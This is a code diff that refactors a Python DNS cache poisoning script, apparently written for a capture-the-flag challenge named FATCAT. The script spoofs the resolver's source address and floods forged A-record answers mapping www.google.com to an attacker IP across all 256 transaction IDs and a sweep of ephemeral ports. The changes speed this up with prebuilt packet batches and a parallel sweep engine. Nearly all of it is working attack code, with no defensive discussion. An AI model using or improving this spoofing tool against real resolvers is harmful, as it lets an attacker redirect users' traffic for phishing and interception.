@@ -5,7 +5,9 @@ import threading
 import time
 import re
 import sys
-from utils import build_response_packet, RecordType, ResponseCode
+from utils import ResponseTemplate, RecordType, ResponseCode
+from sender import get_sender
+from sweep import SweepEngine
 
 # Configuration
 TARGET_DOMAIN = "www.google.com"
@@ -16,6 +18,17 @@ SERVER_PORT = 48765
 RESOLVER_IP = '140.112.30.191'
 RESOLVER_PORT = 53053
 
+# The poisoned answer is identical for every TID, so build it once and
+# keep all 256 packets (TIDs 0-255) in one preallocated buffer
+POISON_TEMPLATE = ResponseTemplate(
+    domain=TARGET_DOMAIN,
+    qtype=RecordType.A,
+    rcode=ResponseCode.NOERROR,
+    answer=ATTACKER_IP,
+    ttl=TTL
+)
+POISON_PACKETS = POISON_TEMPLATE.batch(range(256))
+
 def extract_port(output: str) -> int:
     """Extract source port from server output"""
     match = re.search(r'source port (\d+)', output)
@@ -25,45 +38,13 @@ def send_poisoned_responses(target_ip: str, target_port: int):
     """Send poisoned DNS responses for all possible transaction IDs"""
     print(f"Sending poisoned responses to {target_ip}:{target_port}")
     
-    # Create UDP socket
-    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    
-    try:
-        # Try to bind to resolver port to spoof source
-        sock.bind((RESOLVER_IP, RESOLVER_PORT))
-        print(f"Successfully bound to {RESOLVER_IP}:{RESOLVER_PORT}")
-    except Exception as e:
-        try:
-            # Fallback: bind to any available port
-            sock.bind(('', 0))
-            print(f"Bound to fallback port: {sock.getsockname()}")
-        except Exception as e2:
-            print(f"Failed to bind socket: {e2}")
-            return
-    
-    successful_sends = 0
+    # One socket per process, created on first use; it tries to bind to the
+    # resolver address to spoof the source and falls back to any free port
+    sender = get_sender(bind=(RESOLVER_IP, RESOLVER_PORT))
     
-    # Send responses for all possible transaction IDs (0-255)
-    for tid in range(256):
-        try:
-            # Build poisoned response packet
-            response_packet = build_response_packet(
-                tid=tid,
-                domain=TARGET_DOMAIN,
-                qtype=RecordType.A,
-                rcode=ResponseCode.NOERROR,
-                answer=ATTACKER_IP,
-                ttl=TTL
-            )
-            
-            # Send the packet
-            sock.sendto(response_packet, (target_ip, target_port))
-            successful_sends += 1
-            
-        except Exception as e:
-            continue
+    # Send responses for all possible transaction IDs (0-255) in one batch
+    successful_sends = sender.send_batch(POISON_PACKETS, (target_ip, target_port))
     
-    sock.close()
     print(f"Sent {successful_sends}/256 poisoned responses")
     return successful_sends
 
@@ -71,6 +52,7 @@ def main():
     print("=== FATCAT DNS Cache Poisoning Attack ===")
     print(f"Target: {TARGET_DOMAIN} -> {ATTACKER_IP}")
     
+    engine = None
     try:
         # Connect to FATCAT DNS server
         server_sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
@@ -93,28 +75,20 @@ def main():
         query = f"{TARGET_DOMAIN} A\n"
         print(f"Sending query: {query.strip()}")
         
-        # Start attack thread that will send poisoned responses
-        attack_started = threading.Event()
-        
-        def attack_thread():
-            # Wait a bit for the query to be processed
-            attack_started.wait()
-            time.sleep(0.05)  # Small delay to let query get processed
-            
-            # Try flooding multiple port ranges
-            for base_port in range(32768, 65536, 1000):
-                for port_offset in range(0, min(1000, 65536 - base_port), 50):
-                    port = base_port + port_offset
-                    send_poisoned_responses(SERVER_IP, port)
-        
-        # Start the attack thread
-        attack = threading.Thread(target=attack_thread)
-        attack.daemon = True
-        attack.start()
+        # Sweep every 50th port of the ephemeral range with all 256 TIDs,
+        # split across a process pool that stops as soon as the cache is polluted
+        engine = SweepEngine(
+            target_ip=SERVER_IP,
+            ports=range(32768, 65536, 50),
+            tids=range(256),
+            template=POISON_TEMPLATE,
+            bind=(RESOLVER_IP, RESOLVER_PORT)
+        )
         
         # Send the DNS query
         server_sock.send(query.encode())
-        attack_started.set()
+        time.sleep(0.05)  # Small delay to let query get processed
+        engine.start()
         
         # Read server response
         found_flag = False
@@ -142,6 +116,7 @@ def main():
                     
                 if "Cache polluted successfully" in response:
                     print("\n*** CACHE POISONING SUCCESSFUL! ***")
+                    engine.stop()
                     
             except socket.timeout:
                 print("Timeout waiting for server response")
@@ -157,11 +132,16 @@ def main():
         print(f"Error during attack: {e}")
         
     finally:
+        if engine is not None:
+            engine.stop()
+            total, rate = engine.join()
+            print(f"Sweep sent {total} packets ({rate:,.0f} packets/s)")
         try:
             server_sock.close()
         except:
             pass
     
+    print(get_sender().report())
     print("Attack finished")
 
 if __name__ == "__main__":